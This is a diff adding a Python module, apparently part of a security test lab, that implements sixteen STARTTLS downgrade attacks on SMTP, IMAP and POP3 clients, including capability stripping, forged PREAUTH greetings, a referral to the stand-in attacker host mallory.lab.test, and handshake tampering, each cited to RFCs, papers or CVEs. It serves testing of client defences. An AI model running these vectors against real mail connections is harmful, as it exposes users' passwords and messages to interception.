@@ -1,0 +1,235 @@
+"""Attacks on the negotiation, N1 to N16: the client is made to believe that there is no TLS here.
+
+They work because nobody has signed the clear text before the handshake (RFC 3207 §6). Not here as vectors:
+
+- N9, FTP's ``230`` ("already logged in") before AUTH TLS: the lab has no FTP server or client. `Preauth` (N8) is the
+  same idea in IMAP; curl had both mistakes (CVE-2021-22946).
+"""
+
+from typing import ClassVar
+
+from labkit.attacks import speech
+from labkit.attacks.actions import Answer, Close, Drop, Replace
+from labkit.attacks.vector import Answered, Line, Opening, Record, Vector
+from labkit.dialects.base import CLIENT
+
+_STUDY = "Poddebniak et al., Why TLS is better without STARTTLS, USENIX Security 2021"
+_AUTODETECT = "Use of TLS and Auto-detect in Email Ecosystems, NDSS 2025"
+_HANDSHAKE, _CHANGE_CIPHER_SPEC = 22, 20
+"""Content types of TLS records (RFC 8446 §5.1)."""
+
+
+class StripCapability(Vector):
+    """Removes the offer of TLS from the server's list of capabilities."""
+
+    id = "N1"
+    source = "RFC 3207 §6; striptls"
+
+    def on_line(self, line: Line) -> Answered:
+        return speech.stripped(line)
+
+
+class RefuseUpgrade(Vector):
+    """Leaves the offer of TLS in place, but answers the command that asks for it with a lasting refusal."""
+
+    id = "N2"
+    source = "striptls"
+
+    def on_line(self, line: Line) -> Answered:
+        return Answer(speech.reply(line, "refused", "Not possible")) if speech.upgrades(line) else None
+
+
+class RefuseForNow(Vector):
+    """Answers the command that asks for TLS with a refusal that may pass."""
+
+    id = "N3"
+    protocols = ("SMTP", "IMAP")
+    source = "striptls"
+
+    def on_line(self, line: Line) -> Answered:
+        return Answer(speech.reply(line, "later", "TLS not available now")) if speech.upgrades(line) else None
+
+
+class UnexpectedSuccess(Vector):
+    """Answers the command that asks for TLS with a success that is not the go-ahead, and carries on in clear text."""
+
+    id = "N4"
+    protocols = ("SMTP", "IMAP")
+    source = "striptls; CVE-2021-32066"
+
+    def on_line(self, line: Line) -> Answered:
+        return Answer(speech.reply(line, "odd", "Fine")) if speech.upgrades(line) else None
+
+
+class SilentDrop(Vector):
+    """Swallows the command that asks for TLS: the client waits, and may try again without."""
+
+    id = "N5"
+    source = "striptls, for IRC"
+
+    def on_line(self, line: Line) -> Answered:
+        return Drop() if speech.upgrades(line) else None
+
+
+class OldDialect(Vector):
+    """Makes the server look so old that it knows no capabilities, and therefore no TLS."""
+
+    id = "N6"
+    source = _STUDY
+
+    def on_line(self, line: Line) -> Answered:
+        if speech.asks(line) and line.dialect.name in _KNOWS_NO_QUESTION:
+            return Answer(speech.reply(line, "refused", "What is that?"))
+        if speech.capabilities(line) is not None:
+            return Replace(speech.offering(line, ("IMAP4",)))  # RFC 1730 knows no STARTTLS
+        return None
+
+
+_KNOWS_NO_QUESTION = ("SMTP", "POP3")
+"""Dialects that began without a command that asks what is offered."""
+
+
+class LureIntoLogin(Vector):
+    """Removes the offer of TLS, and offers a login in clear text, with the password itself, where there was none."""
+
+    id = "N7"
+    source = "striptls; NDSS 2025"
+    server: ClassVar = {"auth": "after TLS"}
+    _OFFERED: ClassVar = {"SMTP": ("AUTH PLAIN",), "IMAP": ("AUTH=PLAIN",), "POP3": ("USER", "SASL PLAIN")}
+
+    def on_line(self, line: Line) -> Answered:
+        offered = speech.capabilities(line)
+        if offered is None:
+            return None
+        gone = (line.dialect.token, "LOGINDISABLED", "AUTH", "USER", "SASL")
+        left = tuple(one for one in offered if speech.keyword(one) not in gone)
+        return Replace(speech.offering(line, (*left, *self._OFFERED[line.dialect.name])))
+
+
+class Preauth(Vector):
+    """Greets with PREAUTH: the client is "logged in" already, STARTTLS comes too late, and what it uploads is in clear.
+
+    The attacker plays the server for the upload, because the real one knows of no login.
+    """
+
+    id = "N8"
+    protocols = ("IMAP",)
+    source = f"{_STUDY}; CVE-2014-2567, CVE-2020-12398"
+
+    def on_line(self, line: Line) -> Answered:
+        if line.kind == "greeting":
+            return Replace(b"* PREAUTH" + line.data[line.data.find(b" ", 2) :])
+        if line.sender == CLIENT and line.title == "APPEND":
+            return Answer(b"+ Go on\r\n")
+        if line.kind == "message" and (upload := speech.asked(line)):
+            return Answer(speech.reply(upload, "done", "APPEND completed"))
+        return None
+
+
+class Referral(Vector):
+    """Sends the client away, before TLS, to a server of the attacker's that has none (RFC 2221).
+
+    Clients of the standard library follow no referral; the victims include one that does. A certificate of the
+    attacker's own would not help it: the name that it compares is the attacker's now.
+    """
+
+    id = "N10"
+    protocols = ("IMAP",)
+    source = _STUDY
+    lure = 1143
+
+    def on_line(self, line: Line) -> Answered:
+        if line.port == self.lure:
+            return speech.stripped(line)
+        if line.kind == "greeting":
+            away = f"* BYE [REFERRAL imap://mallory.lab.test:{self.lure}/] This mailbox has moved\r\n"
+            return Replace(away.encode()), Close()
+        return None
+
+
+class EarlyOK(Vector):
+    """Sends the OK to STARTTLS before the client asks, by guessing its next tag, and swallows the command itself."""
+
+    id = "N11"
+    protocols = ("IMAP",)
+    source = "CVE-2026-42246"
+
+    def on_line(self, line: Line) -> Answered:
+        command = speech.asked(line)
+        if line.kind == "reply" and command is not None and command.title == line.dialect.ask:
+            early = speech.command(line.dialect.name, "OK Begin TLS negotiation now", speech.next_tag(speech.tag(line)))
+            return Replace(line.data + early)
+        return Drop() if speech.upgrades(line) else None
+
+
+class BreakHandshake(Vector):
+    """Lets the go-ahead pass, and answers the ClientHello with clear text: will the client try again without TLS?"""
+
+    id = "N12"
+    source = f"{_AUTODETECT}, T2"
+
+    def on_record(self, record: Record) -> Answered:
+        if record.sender == CLIENT and record.kind == _HANDSHAKE:
+            return Answer(b"This server has no TLS today.\r\n"), Close()
+        return None
+
+
+class BreakFirstRecord(Vector):
+    """Lets the handshake pass, and changes one bit of the first thing that the client says inside."""
+
+    id = "N13"
+    source = f"{_AUTODETECT}, T4"
+
+    def on_record(self, record: Record) -> Answered:
+        mine = [earlier.kind for earlier in record.earlier if earlier.sender == CLIENT]
+        if record.sender != CLIENT or _CHANGE_CIPHER_SPEC not in mine:
+            return None
+        behind = len(mine) - mine.index(_CHANGE_CIPHER_SPEC) - 1  # Finished comes first
+        return Replace(record.data[:-1] + bytes([record.data[-1] ^ 1])) if behind == 1 else None
+
+
+class BlockImplicit(StripCapability):
+    """Breaks off every connection to the port with implicit TLS, and removes the offer on the other: a client that
+    takes what works ends up in clear text."""
+
+    id = "N14"
+    source = _AUTODETECT
+
+    def on_open(self, opening: Opening) -> Answered:
+        return Close(reset=True) if opening.implicit else None
+
+
+class Mangle(Vector):
+    """Writes over the offer of TLS, and over the command, with X: lengths stay, as some firewalls do it."""
+
+    id = "N15"
+    protocols = ("SMTP",)
+    source = "Cisco PIX, fixup protocol smtp"
+
+    def on_line(self, line: Line) -> Answered:
+        token = line.dialect.token.encode()
+        if speech.upgrades(line) or (speech.capabilities(line) is not None and token in line.data):
+            return Replace(line.data.replace(token, b"X" * len(token)))
+        return None
+
+
+class CornerCase(Vector):
+    """Only puts the client into a corner in which some forget that TLS was required: a greeting that makes no sense, a
+    list of capabilities that is refused; in SMTP it is enough that nobody logs in."""
+
+    id = "N16"
+    source = "CVE-2020-28896 (Mutt), CVE-2021-22946 (curl), CVE-2021-38373 (KMail)"
+
+    def on_line(self, line: Line) -> Answered:
+        return _CORNERS[line.dialect.name](line)
+
+
+def _senseless_greeting(line: Line) -> Answered:
+    return Replace(b"* HELLO " + line.data[line.data.find(b" ", 2) + 1 :]) if line.kind == "greeting" else None
+
+
+def _no_list(line: Line) -> Answered:
+    return Answer(speech.reply(line, "refused", "Try USER")) if speech.asks(line) else None
+
+
+_CORNERS = {"SMTP": lambda _: None, "IMAP": _senseless_greeting, "POP3": _no_list}
